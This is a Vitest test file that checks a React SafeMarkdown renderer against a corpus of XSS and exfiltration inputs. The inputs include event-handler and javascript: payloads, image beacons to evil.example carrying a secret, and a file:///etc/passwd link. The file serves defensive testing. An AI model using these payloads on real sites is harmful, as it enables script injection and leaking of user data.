import { cleanup, fireEvent, render } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SafeMarkdown } from '../markdown.tsx';

afterEach(cleanup);

const corpus: readonly string[] = [
  '<img src=x onerror="alert(1)">',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  '<object data="https://evil.example"></object>',
  '<a href="javascript:alert(1)">a</a>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:x)',
  '[a](file:///etc/passwd)',
  '[a](http://evil.example/?q=1)',
  '[a](//evil.example)',
  '[a](https://user:secret@evil.example)',
  '[a](https://evil.example "t" onmouseover=alert(1)")',
  '![x](https://evil.example/leak.png?secret=1)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '![x][ref]\n\n[ref]: https://evil.example/leak.png',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  '| a | b |\n|---|---|\n| ![x](https://evil.example/t.png) | <img src=x> |',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '```echarts\n{"tooltip":{"formatter":"function(){alert(1)}"}}\n```',
];

const allowed = new Set(
  'div p ul ol li strong em del code pre table thead tbody tr th td h1 h2 h3 h4 h5 h6 blockquote hr br span button svg path line polyline rect circle input sup section'.split(
    ' ',
  ),
);

describe('E10: markdown that reaches out', () => {
  it.each(corpus)('nothing runs and nothing is fetched for %j', (text) => {
    const { container } = render(<SafeMarkdown text={text} />);
    for (const element of container.querySelectorAll('*')) {
      const name = element.tagName.toLowerCase();
      expect(allowed.has(name), `<${name}> in the page`).toBe(true);
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith('on'), `${name} has ${attribute.name}`).toBe(false);
        expect([
          'src',
          'href',
          'srcset',
          'action',
          'formaction',
          'data',
          'xlink:href',
          'background',
          'style',
        ]).not.toContain(attribute.name);
      }
    }
  });

  it('a link opens only when pressed, by the window’s gate, and only with https', () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    const { getAllByRole, container } = render(
      <SafeMarkdown text={'[good](https://example.org/a) [bad](javascript:alert(1)) [plain](http://example.org)'} />,
    );
    expect(open).not.toHaveBeenCalled();
    const links = getAllByRole('button');
    expect(links.map((link) => link.textContent)).toEqual(['good']);
    expect(container.textContent).toContain('(example.org)');
    for (const link of links) fireEvent.click(link);
    expect(open.mock.calls).toEqual([['https://example.org/a', '_blank', 'noopener,noreferrer']]);
    open.mockRestore();
  });
});
